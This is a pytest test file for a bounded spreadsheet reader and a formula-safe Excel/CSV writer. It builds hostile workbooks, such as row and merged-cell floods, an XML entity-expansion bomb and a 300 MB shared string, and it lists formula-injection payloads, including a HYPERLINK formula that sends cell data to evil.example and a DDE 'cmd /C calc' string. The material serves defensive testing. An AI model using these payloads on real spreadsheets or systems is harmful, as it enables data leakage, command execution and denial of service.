"""The bounded spreadsheet reader and the formula-safe writer (apps.core.spreadsheets).

Hostile workbooks are built here by streaming their XML into the zip, never holding it in memory.
"""
from __future__ import annotations

import io
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from apps.core.spreadsheets import (
    Limits,
    SafeWorkbook,
    SpreadsheetRefused,
    csv_safe,
    iter_csv_rows,
    iter_xlsx_rows,
    workbook_response,
)

SHEET_HEAD = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
SHEET_TAIL = b"</sheetData></worksheet>"


def _xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _hostile_xlsx(path, parts: dict[str, object]) -> str:
    """A real workbook whose named parts are replaced by the given bytes or chunk generators (streamed)."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx([["a"]])))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        for name in source.namelist():
            if name not in parts:
                archive.writestr(name, source.read(name))
        for name, content in parts.items():
            with archive.open(name, "w", force_zip64=True) as handle:
                for chunk in ([content] if isinstance(content, bytes) else content):
                    handle.write(chunk)
    return path


def _read_all(path, reader, **kwargs) -> SpreadsheetRefused:
    with open(path, "rb") as handle, pytest.raises(SpreadsheetRefused) as refused:
        for _row in reader(handle, **kwargs):
            pass
    return refused.value


def _refused_quickly_and_flat(path, reader=iter_xlsx_rows, **kwargs) -> SpreadsheetRefused:
    """Refused within a second; then once more under tracemalloc (which slows Python) for the memory peak."""
    started = time.monotonic()
    error = _read_all(path, reader, **kwargs)
    elapsed = time.monotonic() - started
    assert elapsed < 1, elapsed
    tracemalloc.start()
    try:
        _read_all(path, reader, **kwargs)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * 1024 * 1024, peak
    return error


def test_reads_a_normal_workbook():
    rows = list(iter_xlsx_rows(io.BytesIO(_xlsx([["题型", "题干"], ["单选", "问题"], [None, None], ["判断", 1]]))))
    assert rows == [(1, ["题型", "题干"]), (2, ["单选", "问题"]), (3, []), (4, ["判断", 1])]


def test_five_million_empty_rows_in_a_small_file_are_refused_at_once(tmp_path):
    def rows():
        yield SHEET_HEAD
        chunk = b'<row spans="1:1" x14ac:dyDescent="0.25"/>' * 100_000
        for _ in range(50):
            yield chunk
        yield SHEET_TAIL

    path = _hostile_xlsx(tmp_path / "rows.xlsx", {"xl/worksheets/sheet1.xml": rows()})
    assert (tmp_path / "rows.xlsx").stat().st_size < 1024 * 1024
    error = _refused_quickly_and_flat(path)
    assert "MB" in error.message or "压缩比" in error.message


def test_rows_openpyxl_makes_up_for_a_gap_are_counted(tmp_path):
    sheet = SHEET_HEAD + b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>' + SHEET_TAIL
    path = _hostile_xlsx(tmp_path / "gap.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    error = _refused_quickly_and_flat(path)
    assert "超过 20000 行（空行也计算在内）" in error.message


def test_a_dimension_claiming_a_million_rows_is_not_believed_into_empty_rows(tmp_path):
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<dimension ref="A1:XFD1048576"/><sheetData>'
             b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>' + SHEET_TAIL)
    path = _hostile_xlsx(tmp_path / "dimension.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    started = time.monotonic()
    with open(path, "rb") as handle:
        assert list(iter_xlsx_rows(handle)) == [(1, ["x"])]
    assert time.monotonic() - started < 1


def test_empty_rows_under_the_size_limits_are_still_counted(tmp_path):
    sheet = SHEET_HEAD + b"<row/>" * 30_000 + SHEET_TAIL
    path = _hostile_xlsx(tmp_path / "empty.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    error = _refused_quickly_and_flat(path, limits=Limits(max_ratio=10_000))
    assert error.row == 20_001


def test_one_row_of_millions_of_cells_is_refused_before_openpyxl_builds_it(tmp_path):
    def sheet():
        yield SHEET_HEAD + b'<row r="1">'
        for block in range(40):  # about 40 MB of varied cells, a few MB zipped
            yield b"".join(b"<c><v>%d</v></c>" % (block * 50_000 + i) for i in range(50_000))
        yield b"</row>" + SHEET_TAIL

    path = _hostile_xlsx(tmp_path / "wide.xlsx", {"xl/worksheets/sheet1.xml": sheet()})
    error = _refused_quickly_and_flat(path)
    assert "第 1 行超过 50 列" in error.message


def test_a_flood_of_merged_cells_is_refused(tmp_path):
    def sheet():
        yield SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row></sheetData><mergeCells>'
        for block in range(20):
            yield b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(block * 10_000, (block + 1) * 10_000))
        yield b"</mergeCells></worksheet>"

    path = _hostile_xlsx(tmp_path / "merged.xlsx", {"xl/worksheets/sheet1.xml": sheet()})
    error = _refused_quickly_and_flat(path)
    assert "合并单元格" in error.message


def test_a_cell_of_millions_of_text_runs_is_refused(tmp_path):
    def sheet():
        yield SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is>'
        for block in range(20):
            yield b"".join(b"<r><t>%d</t></r>" % n for n in range(block * 10_000, (block + 1) * 10_000))
        yield b"</is></c></row>" + SHEET_TAIL

    path = _hostile_xlsx(tmp_path / "runs.xlsx", {"xl/worksheets/sheet1.xml": sheet()})
    error = _refused_quickly_and_flat(path)
    assert "文字片段过多" in error.message


def test_a_300_mb_shared_string_is_refused_before_it_is_read(tmp_path):
    def strings():
        yield (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
               b"<si><t>")
        chunk = b"a" * (4 * 1024 * 1024)
        for _ in range(75):
            yield chunk
        yield b"</t></si></sst>"

    path = _hostile_xlsx(tmp_path / "strings.xlsx", {"xl/sharedStrings.xml": strings()})
    error = _refused_quickly_and_flat(path)
    assert "共享字符串" in error.message


def test_too_many_parts_are_refused(tmp_path):
    parts = {f"xl/media/image{i}.bin": b"x" for i in range(150)}
    error = _refused_quickly_and_flat(_hostile_xlsx(tmp_path / "parts.xlsx", parts))
    assert "159 个部件，超过 100 个" in error.message


def test_an_entity_expansion_bomb_is_not_expanded(tmp_path):
    bomb = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
            + SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>' + SHEET_TAIL)
    path = _hostile_xlsx(tmp_path / "bomb.xlsx", {"xl/worksheets/sheet1.xml": bomb})
    with open(path, "rb") as handle, pytest.raises(SpreadsheetRefused):
        list(iter_xlsx_rows(handle))


@pytest.mark.parametrize(("row", "message"), [
    (["x"] * 51, "第 1 行超过 50 列"),
    (["x" * 5001], "第 1 行 A 列的内容过长（5001 字，上限 5000 字）"),
])
def test_wide_rows_and_long_cells_are_refused_with_their_place(row, message):
    with pytest.raises(SpreadsheetRefused, match=message):
        list(iter_xlsx_rows(io.BytesIO(_xlsx([row]))))


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x03\x04 broken", _xlsx([["a"]])[:300]])
def test_files_that_are_not_workbooks_are_refused(content):
    with pytest.raises(SpreadsheetRefused, match="不是有效的 Excel"):
        list(iter_xlsx_rows(io.BytesIO(content)))


def test_a_zip_that_is_not_a_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
    with pytest.raises(SpreadsheetRefused, match="不是有效的 Excel"):
        list(iter_xlsx_rows(buffer))


def test_a_file_over_the_size_limit_is_refused_without_opening_it():
    with pytest.raises(SpreadsheetRefused, match="文件过大"):
        list(iter_xlsx_rows(io.BytesIO(_xlsx([["a"]])), Limits(max_file_bytes=100)))


# --- CSV -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_csv_in_each_accepted_encoding(encoding):
    content = "姓名,工号\n张三,001\n\n李四,=1+2\n".encode(encoding)
    rows = list(iter_csv_rows(io.BytesIO(content)))
    assert rows == [(1, ["姓名", "工号"]), (2, ["张三", "001"]), (3, []), (4, ["李四", "=1+2"])]


def test_csv_in_an_unknown_encoding_is_refused():
    with pytest.raises(SpreadsheetRefused, match="文字编码"):
        list(iter_csv_rows(io.BytesIO(b"a,b\n\x80\xff\n")))


def test_csv_in_utf16_is_refused_rather_than_read_as_gb18030():
    with pytest.raises(SpreadsheetRefused, match="UTF-16"):
        list(iter_csv_rows(io.BytesIO("姓名,工号\n张三,001\n".encode("utf-16"))))


def test_csv_empty_lines_count_as_rows(tmp_path):
    path = tmp_path / "lines.csv"
    with open(path, "wb") as handle:
        handle.write(b"a,b\n")
        handle.write(b"\n" * 5_000_000)
    error = _refused_quickly_and_flat(path, reader=iter_csv_rows)
    assert "空行也计算在内" in error.message


@pytest.mark.parametrize(("content", "message"), [
    (b"a,b\n\x00,c\n", "第 2 行 A 列含有控制字符"),
    (("x" * 6000).encode() + b"\n", "第 1 行 A 列的内容过长"),
    (b",".join([b"x"] * 60) + b"\n", "第 1 行超过 50 列"),
    (b'"' + b"x" * 200_000 + b'"\n', "第 1 行无法读取"),
])
def test_csv_bad_rows_are_refused_with_their_place(content, message):
    with pytest.raises(SpreadsheetRefused, match=message):
        list(iter_csv_rows(io.BytesIO(content)))


def test_csv_reader_leaves_the_upload_open():
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("a.csv", b"a,b\n")
    assert list(iter_csv_rows(upload)) == [(1, ["a", "b"])]
    upload.seek(0)
    assert upload.read() == b"a,b\n"


# --- writer --------------------------------------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0"]


def test_text_that_would_be_a_formula_is_written_as_text():
    workbook = SafeWorkbook()
    sheet = workbook.sheet("数据")
    sheet.header(["名称", "数量"])
    for value in HOSTILE:
        sheet.append([value, -5])
    sheet.append(["正常文字", 3.5])
    content = workbook.to_bytes()
    read = load_workbook(io.BytesIO(content))
    rows = list(read.active.iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed.
    assert [row[0].value for row in rows[:-1]] == [value.replace("\r", "\n") for value in HOSTILE]
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in rows[:-1])
    assert rows[0][1].value == -5 and rows[-1][1].value == 3.5
    assert read.active["A1"].font.b
    raw = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw


def test_characters_a_workbook_cannot_hold_are_dropped():
    workbook = SafeWorkbook()
    workbook.sheet("a[b]:c*?/\\" + "x" * 40).append(["a\x00b\x07c", "=\x01x"])
    read = load_workbook(io.BytesIO(workbook.to_bytes()))
    assert read.active.title == "a_b__c____" + "x" * 21
    assert [cell.value for cell in read.active[1]] == ["abc", "=x"]


def test_aware_datetimes_are_written_in_local_time():
    from datetime import UTC, datetime

    workbook = SafeWorkbook()
    workbook.sheet("a").append([datetime(2026, 1, 1, 0, 30, tzinfo=UTC)])
    assert load_workbook(io.BytesIO(workbook.to_bytes())).active["A1"].value == datetime(2026, 1, 1, 8, 30)


def test_workbook_response_streams_an_attachment():
    workbook = SafeWorkbook()
    workbook.sheet("数据").append(["=1+2"])
    response = workbook_response(workbook, "名单.xlsx")
    assert response.streaming
    body = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(body)
    assert "filename*=UTF-8''%E5%90%8D%E5%8D%95.xlsx" in response["Content-Disposition"]
    assert load_workbook(io.BytesIO(body)).active["A1"].value == "=1+2"


def test_csv_safe_prefixes_formula_text_only():
    assert [csv_safe(v) for v in ["=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", 5, None]] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", 5, None]


def test_only_core_touches_openpyxl():
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parents[2] / "apps"
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "spreadsheets.py" and re.search(r"^\s*(from|import) openpyxl", path.read_text(), re.M)]
    assert offenders == []
